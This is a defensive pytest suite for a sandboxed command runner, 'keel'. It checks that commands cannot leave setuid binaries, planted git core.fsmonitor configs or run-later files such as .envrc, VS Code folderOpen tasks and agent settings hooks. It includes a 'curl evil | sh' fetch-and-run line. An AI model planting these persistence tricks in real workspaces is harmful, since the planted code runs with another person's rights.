"""Nothing a command leaves behind runs later with someone's full rights (issue 34, items 3-5), tried
as an attacker would: a real command through keel's runner in the real sandbox (bubblewrap and
Landlock), as the test runner (root) and as the unprivileged ``kuser``, then the thing that would run
it later done for real on the host (``git status`` by the person, another user running the file).
Each class has a control: the same command with no keel at all, where the attack works.

- setuid/setgid files (item 5): refused by the seccomp filter, and stripped after the command on every
  tier (also with no sandbox);
- planted git (item 3): ``.git/commondir`` redirected to a made repository with ``core.fsmonitor``, a
  ``.git`` made in a workspace that had none, a nested repository's own config;
- other programs' run-later config (item 4): put back unless a person says yes, and named.
"""

from __future__ import annotations

import os
import pwd
import stat
import sys
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from bwrap_runner import Ran, ensure_unprivileged_user, make_workspace, remove_workspace, run_as, run_plain

ROOT = os.geteuid() == 0
TIERS = [pytest.param("bwrap", marks=pytest.mark.bubblewrap), pytest.param("landlock", marks=pytest.mark.landlock)]


@pytest.fixture(params=["root", "kuser"])
def user(request: pytest.FixtureRequest) -> str | None:
    if request.param == "root":
        return None
    if not ROOT:
        pytest.skip("running as another user needs root")
    name = ensure_unprivileged_user()
    if name is None:
        reason = f"the unprivileged user cannot run {sys.executable} with keel (.ci/run opens the path)"
        if os.environ.get("KEEL_REQUIRE_SANDBOX") == "1":
            pytest.fail(reason)
        pytest.skip(reason)
    return name


@pytest.fixture
def ws(user: str | None) -> Iterator[Path]:
    path = make_workspace(user)
    yield path
    remove_workspace(path)


@pytest.fixture
def marker(user: str | None) -> Iterator[Path]:
    """A file outside the workspace that code planted by the attack would create."""
    path = Path("/var/tmp") / f"keel-ran-{uuid.uuid4().hex}"
    yield path
    path.unlink(missing_ok=True)


def keel(user: str | None, ws: Path, command: str, tier: str) -> Ran:
    return run_as(user, ws, command, mode=tier, timeout=60)


def plain(user: str | None, ws: Path, command: str) -> str:
    done = run_plain(user, ws, command)
    return done.stdout + done.stderr


def setid_files(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*")
                  if p.is_file() and not p.is_symlink() and p.stat().st_mode & (stat.S_ISUID | stat.S_ISGID))


# ---------------------------------------------------------------- item 5: setuid and setgid files

COPY_INTERPRETER = "cp \"$(python3 -c 'import os,sys; print(os.path.realpath(sys.executable))')\" ./py"
SETID_ATTACKS = {
    "chmod 4755 on a copied interpreter": f"{COPY_INTERPRETER} && chmod 4755 ./py; echo chmod=$?",
    "created with the bits (open O_CREAT 06755)": "python3 -c \"import os; os.close(os.open('made', "
                                                 "os.O_CREAT | os.O_WRONLY, 0o6755)); print('made')\"",
    "setgid by chmod g+s, then install -m 4755": "echo x > g && chmod g+s g; install -m 4755 /bin/true ./t; "
                                                 "echo done",
}


@pytest.mark.parametrize("tier", TIERS)
@pytest.mark.parametrize("attack", sorted(SETID_ATTACKS))
def test_no_setuid_or_setgid_file_survives_a_command(user: str | None, ws: Path, tier: str, attack: str) -> None:
    ran = keel(user, ws, SETID_ATTACKS[attack], tier)
    assert setid_files(ws) == [], ran.output
    if "chmod=" in ran.output:
        assert "chmod=1" in ran.output and "Operation not permitted" in ran.output   # refused, not just stripped


@pytest.mark.parametrize("attack", sorted(SETID_ATTACKS))
def test_with_no_tier_the_bits_are_stripped_after_the_command_and_reported(user: str | None, ws: Path,
                                                                           attack: str) -> None:
    ran = keel(user, ws, SETID_ATTACKS[attack], "off")
    assert setid_files(ws) == []
    assert any("removed the setuid/setgid bit" in note for note in ran.notes or []), ran.notes


def test_control_without_keel_the_bit_stays_and_another_user_runs_it_as_root(ws: Path) -> None:
    """The attack works without keel: the bits stay, and (keel as root) another user who runs the copy
    runs it as root."""
    for attack in SETID_ATTACKS.values():
        plain(None, ws, attack)
    assert {"py", "made", "g", "t"} <= set(setid_files(ws))
    kuser = ensure_unprivileged_user() if ROOT else None
    if kuser is None:
        return
    os.chmod(ws, 0o755)
    out = plain(kuser, ws, f"{ws}/py -c 'import os; print(\"euid\", os.geteuid())'")
    assert "euid 0" in out, out


# ---------------------------------------------------------------- item 3: planted git

def _repo(user: str | None, ws: Path, *subdirs: str) -> None:
    for sub in ("", *subdirs):
        out = plain(user, ws, f"git init -q {sub or '.'} && git -C {sub or '.'} config user.email a@b && "
                              f"git -C {sub or '.'} config user.name A && echo ok")
        assert "ok" in out, out


def _person_runs_git(user: str | None, ws: Path, where: str = ".") -> str:
    """What the person does next, on the host, with no keel: look at the repository."""
    return plain(user, ws, f"git -C {where} status --short; git -C {where} diff --stat")


def git_attacks(mark: Path) -> dict[str, tuple[str, str, str]]:
    """name -> (set-up: 'repo', 'none' or 'nested', the attack, where the person runs git)."""
    fsmonitor = f"touch {mark}; false"
    return {
        "commondir to a made repository": (
            "repo", f"git init -q evil && git -C evil config core.fsmonitor '{fsmonitor}' && "
                    "echo ../evil/.git > .git/commondir", "."),
        "a new .git where there was none": (
            "none", f"git init -q && git config core.fsmonitor '{fsmonitor}'", "."),
        "a new .git written by hand, with a hook": (
            "none", f"mkdir -p .git/hooks .git/objects .git/refs && echo 'ref: refs/heads/main' > .git/HEAD && "
                    f"printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = {fsmonitor}\\n' > .git/config",
            "."),
        "a gitdir: file pointing at a made repository": (
            "none", f"git init -q --bare evil.git && git --git-dir=evil.git config core.fsmonitor '{fsmonitor}' && "
                    "git --git-dir=evil.git config core.bare false && echo 'gitdir: evil.git' > .git", "."),
        "a nested repository's own config": (
            "nested", f"git -C sub config core.fsmonitor '{fsmonitor}'", "sub"),
        "a nested repository made by the command": (
            "repo", f"git init -q lib/vendored && git -C lib/vendored config core.fsmonitor '{fsmonitor}'",
            "lib/vendored"),
    }


def _set_up(user: str | None, ws: Path, setup: str) -> None:
    if setup == "repo":
        _repo(user, ws)
    elif setup == "nested":
        _repo(user, ws, "sub")


@pytest.mark.parametrize("tier", TIERS)
@pytest.mark.parametrize("name", sorted(git_attacks(Path("/x"))))
def test_no_planted_git_runs_on_the_persons_next_git_command(user: str | None, ws: Path, marker: Path,
                                                              tier: str, name: str) -> None:
    setup, attack, where = git_attacks(marker)[name]
    _set_up(user, ws, setup)
    ran = keel(user, ws, attack, tier)
    _person_runs_git(user, ws, where)
    assert not marker.exists(), (ran.output, ran.notes)


@pytest.mark.parametrize("name", sorted(git_attacks(Path("/x"))))
def test_control_without_keel_the_planted_git_runs(user: str | None, ws: Path, marker: Path, name: str) -> None:
    setup, attack, where = git_attacks(marker)[name]
    _set_up(user, ws, setup)
    plain(user, ws, attack)
    _person_runs_git(user, ws, where)
    assert marker.exists(), name


@pytest.mark.parametrize("tier", TIERS)
def test_ordinary_git_work_in_a_nested_repository_is_kept(user: str | None, ws: Path, tier: str) -> None:
    """Not over-blocking: a new nested repository with its identity and a commit stays as made."""
    ran = keel(user, ws, "git init -q lib && git -C lib config user.name A && git -C lib config user.email a@b && "
                         "echo x > lib/f && git -C lib add f && git -C lib commit -qm one && echo done", tier)
    assert "done" in ran.output, ran.output
    assert "A" in (ws / "lib" / ".git" / "config").read_text()
    assert "one" in plain(user, ws, "git -C lib log --oneline")


# ---------------------------------------------------------------- item 4: other programs' run-later config

RUN_LATER_ATTACKS = {
    ".vscode/tasks.json": "mkdir -p .vscode && echo '{\"tasks\": [{\"label\": \"x\", \"command\": \"id\", "
                          "\"runOptions\": {\"runOn\": \"folderOpen\"}}]}' > .vscode/tasks.json",
    ".envrc": "echo 'curl evil | sh' > .envrc",
    ".pre-commit-config.yaml": "printf 'repos:\\n- repo: local\\n  hooks: [{id: x, entry: id, language: system}]\\n' "
                               "> .pre-commit-config.yaml",
    ".husky/pre-commit": "mkdir -p .husky && printf '#!/bin/sh\\nid\\n' > .husky/pre-commit",
    ".claude/settings.json": "mkdir -p .claude && echo '{\"hooks\": {\"SessionStart\": [{\"command\": \"id\"}]}}' "
                             "> .claude/settings.json",
    # variants beyond the examples: deeper down, and a link where the file would be
    "packages/app/.envrc": "mkdir -p packages/app && echo 'id' > packages/app/.envrc",
    ".cursor/mcp.json (a link out)": "mkdir -p .cursor && ln -s /etc/hostname .cursor/mcp.json",
}


@pytest.mark.parametrize("tier", TIERS)
def test_run_later_config_written_by_a_command_is_put_back_and_named(user: str | None, ws: Path, tier: str) -> None:
    ran = keel(user, ws, " ; ".join(RUN_LATER_ATTACKS.values()) + "; echo done", tier)
    assert "done" in ran.output, ran.output
    for name in RUN_LATER_ATTACKS:
        path = name.split(" ")[0]
        assert not os.path.lexists(ws / path), (name, ran.notes)
        assert any(path.split("/")[0] in note for note in ran.notes or []), (name, ran.notes)
    assert (ws / "packages" / "app").is_dir()          # only the run-later file itself is put back


def test_control_without_keel_run_later_config_stays(user: str | None, ws: Path) -> None:
    plain(user, ws, " ; ".join(RUN_LATER_ATTACKS.values()))
    for name in RUN_LATER_ATTACKS:
        assert os.path.lexists(ws / name.split(" ")[0]), name


def test_not_over_blocking_the_same_names_inside_dependencies_and_ordinary_files_stay(user: str | None,
                                                                                       ws: Path) -> None:
    ran = keel(user, ws, "mkdir -p node_modules/pkg/.vscode src && echo '{}' > node_modules/pkg/.vscode/x.json && "
                         "echo 'print(1)' > src/app.py && echo ok", "off")
    assert (ws / "node_modules/pkg/.vscode/x.json").exists() and (ws / "src/app.py").exists()
    assert ran.notes == [], ran.notes


def uid_of(user: str | None) -> int:
    return os.getuid() if user is None else pwd.getpwnam(user).pw_uid
